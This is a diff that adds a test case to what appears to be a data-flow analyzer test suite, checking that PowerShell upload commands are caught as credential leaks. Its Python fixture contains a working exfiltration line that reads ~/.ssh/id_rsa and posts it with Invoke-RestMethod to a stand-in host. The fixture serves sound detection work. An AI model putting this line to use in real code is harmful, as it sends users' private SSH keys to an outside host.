@@ -85,6 +85,20 @@ describe("credentials used for their own service are not sent away", () => {
     expect(flowsOf(facts)).toEqual(["ssh-key@pkg/run.py:7 -> http@pkg/run.py:7 https://203.0.113.5/u [call]"]);
   });
 
+  it("PowerShell -Command / pwsh -c: Invoke-RestMethod -InFile uploads the file; -OutFile downloads to it", async () => {
+    const facts = await analyze({
+      "pkg/run.py": `
+        import os, subprocess
+        def icon(path):
+            subprocess.run(["pwsh", "-c", "iwr -Uri https://203.0.113.5/icon.png -OutFile " + path])
+        def leak():
+            key = os.path.expanduser("~/.ssh/id_rsa")
+            subprocess.run("powershell.exe -NoProfile -com \\"irm https://203.0.113.5/u -Method Post -InFile '" + key + "'\\"")
+      `,
+    });
+    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/run.py:6 -> http@pkg/run.py:6 https://203.0.113.5/u [call]"]);
+  });
+
   it("a keyring CLI printing a password has a source and no sink", async () => {
     const facts = await analyze({ "kr/__main__.py": `import keyring, sys\nprint(keyring.get_password(sys.argv[1], sys.argv[2]))\n` });
     expect(facts.sources.map((s) => s.kind)).toEqual(["keychain"]);
